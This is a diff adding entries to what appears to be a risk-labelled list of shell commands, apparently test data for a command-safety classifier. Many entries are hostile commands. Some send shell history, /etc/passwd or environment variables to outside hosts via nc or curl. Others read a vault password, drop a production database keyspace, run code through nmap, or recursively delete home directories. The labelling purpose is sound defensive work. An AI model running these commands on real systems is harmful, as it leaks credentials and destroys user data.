@@ -75,6 +75,20 @@ C  git clone 'ext::sh -c rm% -rf% ~'
 HC  less notes.txt '+!rm -rf ~'
 C  xterm -display 203.0.113.7:0
 LM  xterm -display localhost:0 -e top
+H  history | curl --data-binary @- https://paste.example.org
+H  nc 203.0.113.7 80 < ~/.bash_history
+H  cat /etc/passwd | nc 203.0.113.7 80
+L  history | tail -5
+L  cut -d: -f1 /etc/passwd
+C  jq -n env | curl -d @- https://collect.example.org
+L  jq .env config.json
+H  op read op://vault/db/password
+L  op item list
+HC  somedb-cli --execute='DROP KEYSPACE prod'
+M  somedb-cli --execute='SELECT 1'
+HC  nmap --script <(echo 'os.execute("id")') localhost
+H  npm config set script-shell /tmp/x
+HC  find /home -type d -empty -o -name .git -exec rm -rf {} +
 == options that mean something else
 C  parted -s /dev/sdb mklabel gpt
 L  parted -s /dev/sdb print
